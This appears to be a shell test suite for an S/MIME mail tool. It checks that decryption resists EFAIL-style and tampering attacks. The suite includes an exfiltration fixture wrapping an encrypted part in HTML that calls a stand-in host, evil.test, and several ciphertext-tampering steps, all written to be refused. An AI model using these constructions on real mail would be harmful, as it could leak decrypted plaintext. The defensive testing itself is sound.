#!/bin/sh
# Decryption attacks (EFAIL and friends): only a root entity is decrypted,
# tampering gives one generic error, nothing is written on failure, and
# unauthenticated CBC is reported as such.
set -u
. "$top_srcdir/tests/tap.sh"
. "$top_srcdir/tests/test-smime-common.sh"

mkmsg "$W/msg" alice@north-clinic.test bob@south-lab.test
"$P11MAIL" encrypt --anchor "$CA_CERT" --recipient-cert "$BOB_RSA_CERT" \
  --cert "$ALICE_RSA_CERT" -o "$W/gcm.eml" "$W/msg" ||
  fail "setup: encrypt with GCM"
"$P11MAIL" encrypt --cbc --anchor "$CA_CERT" --recipient-cert "$BOB_RSA_CERT" \
  --cert "$ALICE_RSA_CERT" -o "$W/cbc.eml" "$W/msg" ||
  fail "setup: encrypt with CBC"

# decrypt_to NAME INPUT: decrypts as Bob into $W/NAME.out, stderr in .err.
decrypt_to() {
  rm -f "$W/$1.out"
  "$P11MAIL" decrypt --key "$BOB_KEY" --cert "$BOB_RSA_CERT" \
    -o "$W/$1.out" "$2" 2>"$W/$1.err" >/dev/null
}

# refused NAME INPUT: decryption fails and writes nothing.
refused() {
  if decrypt_to x "$2"; then fail "$1 (decrypted)"
  elif [ -e "$W/x.out" ]; then fail "$1 (output written)"
  else pass "$1"; fi
}

# The encrypted entity of a message (its content headers and body).
entity() { sed -n '/^Content-Type: application\/pkcs7-mime/,$p' "$1"; }

# der MESSAGE OUT: the decoded CMS of an encrypted message.
# p11mail streams indefinite-length BER; openssl re-encodes it as DER so
# that the offsets below name the ciphertext and the tag.
der() {
  sed '1,/^\r*$/d' "$1" | openssl base64 -d >"$2.ber" &&
    openssl cms -cmsout -inform DER -in "$2.ber" -outform DER -out "$2"
}

# wrap DER OUT TYPE: an encrypted message around a DER file.
wrap() {
  {
    printf 'From: alice@north-clinic.test\r\nTo: bob@south-lab.test\r\n'
    printf 'MIME-Version: 1.0\r\nContent-Type: application/pkcs7-mime; '
    printf 'smime-type=%s; name="smime.p7m"\r\n' "$3"
    printf 'Content-Transfer-Encoding: base64\r\n\r\n'
    openssl base64 <"$1" | sed 's/$/\r/'
  } >"$2"
}

# offset_of FILE HEX...: the byte offset of a byte sequence, or nothing.
offset_of() {
  _f=$1; shift
  od -An -v -tx1 "$_f" | tr -s ' \n' '\n\n' | sed '/^$/d' |
    awk -v pat="$*" 'BEGIN { n = split(pat, p, " ") }
      { b[NR - 1] = $1 }
      END { for (i = 0; i + n <= NR; i++) {
              for (j = 1; j <= n && b[i + j - 1] == p[j]; j++) ;
              if (j > n) { print i; exit } } }'
}

# setbyte FILE OFFSET HEX: overwrites one byte.
setbyte() {
  printf "$(printf '\\%03o' "0x$3")" |
    dd of="$1" bs=1 seek="$2" conv=notrunc 2>/dev/null
}

# flip FILE OFFSET: flips the low bit of one byte.
flip() {
  _b=$(od -An -v -tx1 -j "$2" -N 1 "$1" | tr -d ' \n')
  setbyte "$1" "$2" "$(printf '%02x' $((0x$_b ^ 1)))"
}

decrypt_to ok "$W/gcm.eml"
grep_out "control: the GCM message decrypts" "Zweite Zeile" "$W/ok.out"

# --- direct exfiltration and several encrypted parts -------------------------
{
  printf 'From: alice@north-clinic.test\r\nTo: bob@south-lab.test\r\n'
  printf 'MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="x"\r\n\r\n'
  printf -- '--x\r\nContent-Type: text/html\r\n\r\n<img src="http://evil.test/?\r\n'
  printf -- '--x\r\n'; entity "$W/gcm.eml"
  printf -- '\r\n--x\r\nContent-Type: text/html\r\n\r\n">\r\n--x--\r\n'
} >"$W/exfil.eml"
refused "encrypted part between attacker HTML parts: refused" "$W/exfil.eml"
grep_out "the refusal says why" "not encrypted at its root" "$W/x.err"

{
  printf 'From: alice@north-clinic.test\r\nMIME-Version: 1.0\r\n'
  printf 'Content-Type: multipart/alternative; boundary="y"\r\n\r\n'
  printf -- '--y\r\n'; entity "$W/gcm.eml"
  printf -- '\r\n--y\r\n'; entity "$W/cbc.eml"
  printf -- '\r\n--y--\r\n'
} >"$W/two.eml"
refused "two encrypted parts in multipart/alternative: refused" "$W/two.eml"

{
  printf 'From: alice@north-clinic.test\r\nMIME-Version: 1.0\r\n'
  printf 'Content-Type: multipart/mixed; boundary="z"\r\n\r\n'
  printf -- '--z\r\n'; entity "$W/gcm.eml"
  printf -- '\r\n--z--\r\n'
} >"$W/wrapped.eml"
decrypt_to wrapped "$W/wrapped.eml"
grep_out "a single wrapper around the encrypted entity is accepted" \
  "Zweite Zeile" "$W/wrapped.out"

# --- GCM tampering -------------------------------------------------------------
der "$W/gcm.eml" "$W/gcm.der"
size=$(wc -c <"$W/gcm.der")

cp "$W/gcm.der" "$W/flip.der"
flip "$W/flip.der" $((size - 24))
wrap "$W/flip.der" "$W/flip.eml" authEnveloped-data
refused "GCM ciphertext with a flipped bit: refused, nothing written" \
  "$W/flip.eml"
grep_out "GCM tamper gives the generic error" "could not be decrypted" \
  "$W/x.err"

cp "$W/gcm.der" "$W/tag.der"
flip "$W/tag.der" $((size - 1))
wrap "$W/tag.der" "$W/tag.eml" authEnveloped-data
refused "GCM tag with a flipped bit: refused" "$W/tag.eml"

# GCMParameters: SEQUENCE { OCTET STRING (12) nonce, INTEGER 16 }.
off=$(offset_of "$W/gcm.der" 30 11 04 0c)
if [ -n "$off" ]; then
  cp "$W/gcm.der" "$W/icv.der"
  setbyte "$W/icv.der" $((off + 18)) 08
  wrap "$W/icv.der" "$W/icv.eml" authEnveloped-data
  refused "GCM tag length announced as 8: refused before decryption" \
    "$W/icv.eml"
  cp "$W/gcm.der" "$W/icv4.der"
  setbyte "$W/icv4.der" $((off + 18)) 04
  wrap "$W/icv4.der" "$W/icv4.eml" authEnveloped-data
  refused "GCM tag length announced as 4: refused" "$W/icv4.eml"
  # a 15-byte nonce swallowing the INTEGER keeps every length intact
  cp "$W/gcm.der" "$W/nonce.der"
  setbyte "$W/nonce.der" $((off + 3)) 0f
  wrap "$W/nonce.der" "$W/nonce.eml" authEnveloped-data
  refused "GCM nonce of 15 bytes: refused" "$W/nonce.eml"
  grep_out "nonce refusal is the generic error" "could not be decrypted" \
    "$W/x.err"
else
  fail "GCM parameters not found in the p11mail output"
fi

head -c $((size - 40)) "$W/gcm.der" >"$W/trunc.der"
wrap "$W/trunc.der" "$W/trunc.eml" authEnveloped-data
refused "truncated GCM message: refused" "$W/trunc.eml"

# --- CBC: unauthenticated, and no padding oracle -------------------------------
decrypt_to cbc "$W/cbc.eml"
grep_out "control: the CBC message decrypts" "Zweite Zeile" "$W/cbc.out"
grep_out "CBC is reported unauthenticated" "unauthenticated" "$W/cbc.err"

der "$W/cbc.eml" "$W/cbc.der"
csize=$(wc -c <"$W/cbc.der")
cp "$W/cbc.der" "$W/pad.der"
flip "$W/pad.der" $((csize - 1))
wrap "$W/pad.der" "$W/pad.eml" enveloped-data
refused "CBC padding damaged: refused" "$W/pad.eml"
cp "$W/x.err" "$W/pad.err"

"$P11MAIL" decrypt --key "$ALICE_ECKEY" --cert "$ALICE_EC_CERT" \
  -o "$W/wrong.out" "$W/cbc.eml" 2>"$W/wrong.err" >/dev/null
if cmp -s "$W/pad.err" "$W/wrong.err"; then
  pass "padding error and wrong key give the same message"
else
  fail "padding error and wrong key give the same message"
  sed 's/^/#   /' "$W/pad.err" "$W/wrong.err"
fi

cp "$W/cbc.der" "$W/gadget.der"
flip "$W/gadget.der" $((csize - 40))
wrap "$W/gadget.der" "$W/gadget.eml" enveloped-data
if decrypt_to gadget "$W/gadget.eml"; then
  grep_out "modified CBC block: released only as unauthenticated" \
    "unauthenticated" "$W/gadget.err"
else
  grep_out "modified CBC block: generic error" "could not be decrypted" \
    "$W/gadget.err"
fi

rm -f "$W/aead.out"
"$P11MAIL" decrypt --require-aead --key "$BOB_KEY" --cert "$BOB_RSA_CERT" \
  -o "$W/aead.out" "$W/cbc.eml" 2>"$W/aead.err" >/dev/null
if [ $? != 0 ] && [ ! -e "$W/aead.out" ]; then
  pass "--require-aead refuses CBC and writes nothing"
else fail "--require-aead refuses CBC and writes nothing"; fi

# --require-aead decides on the content type alone: the token is not used.
FAULTY=${P11FAULTY_MODULE:-$top_builddir/tests/mock/.libs/libp11faulty.so}
[ -f "$FAULTY" ] || fail "setup: the fault-injecting module was not built"
fixture_faulty
rm -f "$W/aead.out" "$P11FAULTY_COUNTS"
P11MAIL_MODULE=$FAULTY "$P11MAIL" decrypt --require-aead \
  --key "$BOB_KEY" --cert "$BOB_RSA_CERT" -o "$W/aead.out" "$W/cbc.eml" \
  2>"$W/aead.err" >/dev/null
rc=$?
if [ "$rc" = 1 ] && [ ! -e "$W/aead.out" ] &&
   grep -q "only authenticated encryption (AES-GCM)" "$W/aead.err"; then
  pass "--require-aead: CBC refused with its reason"
else fail "--require-aead: CBC refused with its reason (exit $rc)"
  sed 's/^/#   /' "$W/aead.err"; fi
if [ -e "$P11FAULTY_COUNTS" ] &&
   grep -q '^C_\(Decrypt\|DecryptInit\|Login\)' "$P11FAULTY_COUNTS"; then
  fail "--require-aead: no decryption or login on the token"
  sed 's/^/#   /' "$P11FAULTY_COUNTS"
else pass "--require-aead: no decryption or login on the token"; fi
P11MAIL_MODULE=$FAULTY "$P11MAIL" decrypt --require-aead \
  --key "$BOB_KEY" --cert "$BOB_RSA_CERT" -o "$W/aead.out" "$W/gcm.eml" \
  2>"$W/aead.err" >/dev/null
grep_out "--require-aead: GCM still decrypts" "Zweite Zeile" "$W/aead.out"

# Unauthenticated plaintext that cannot be read fails exactly as bad
# padding does: same message, same exit status, nothing written.
pad_rc=$(decrypt_to pad "$W/pad.eml"; echo $?)
: >"$W/empty"
openssl cms -encrypt -binary -aes-256-cbc -in "$W/empty" -outform DER \
  -out "$W/empty.der" "$BOB_RSA_CERT" 2>/dev/null ||
  fail "setup: CBC message with empty content"
cp "$W/empty.der" "$W/empty.eml"
{ printf 'X-Long: '; head -c 70000 /dev/zero | tr '\000' a
  printf '\r\n\r\nbody\r\n'; } >"$W/junk"
openssl cms -encrypt -binary -aes-256-cbc -in "$W/junk" -outform DER \
  -out "$W/junk.der" "$BOB_RSA_CERT" 2>/dev/null ||
  fail "setup: CBC message with junk content"
wrap "$W/junk.der" "$W/junk.eml" enveloped-data
for n in empty junk; do
  rc=$(decrypt_to "$n" "$W/$n.eml"; echo $?)
  if [ "$rc" = "$pad_rc" ] && cmp -s "$W/pad.err" "$W/$n.err" &&
     [ ! -e "$W/$n.out" ]; then
    pass "CBC $n plaintext: same failure as bad padding"
  else
    fail "CBC $n plaintext: same failure as bad padding (exit $rc/$pad_rc)"
    sed 's/^/#   /' "$W/pad.err" "$W/$n.err"
  fi
done

# Bare DER is held to the size limit as a message is.
dsize=$(wc -c <"$W/junk.der")
rm -f "$W/big.out"
"$P11MAIL" decrypt --max-size $((dsize - 1)) --key "$BOB_KEY" \
  --cert "$BOB_RSA_CERT" -o "$W/big.out" "$W/junk.der" 2>"$W/big.err" \
  >/dev/null
rc=$?
if [ "$rc" = 1 ] && [ ! -e "$W/big.out" ] &&
   grep -q "larger than $((dsize - 1)) bytes" "$W/big.err"; then
  pass "bare DER over --max-size: refused"
else fail "bare DER over --max-size: refused (exit $rc)"
  sed 's/^/#   /' "$W/big.err"; fi
"$P11MAIL" decrypt --max-size "$dsize" --key "$BOB_KEY" \
  --cert "$BOB_RSA_CERT" -o "$W/big.out" "$W/empty.der" 2>"$W/big.err" \
  >/dev/null
rc=$?
if [ "$rc" != 1 ] || ! grep -q "larger than" "$W/big.err"; then
  pass "bare DER within --max-size: not refused for its size"
else fail "bare DER within --max-size: not refused for its size"; fi

# Nothing half-written over an existing file either.
echo "keep me" >"$W/keep.out"
"$P11MAIL" decrypt --key "$BOB_KEY" --cert "$BOB_RSA_CERT" \
  -o "$W/keep.out" "$W/flip.eml" 2>/dev/null
grep_out "a failed decryption leaves an existing file alone" "keep me" \
  "$W/keep.out"

done_testing
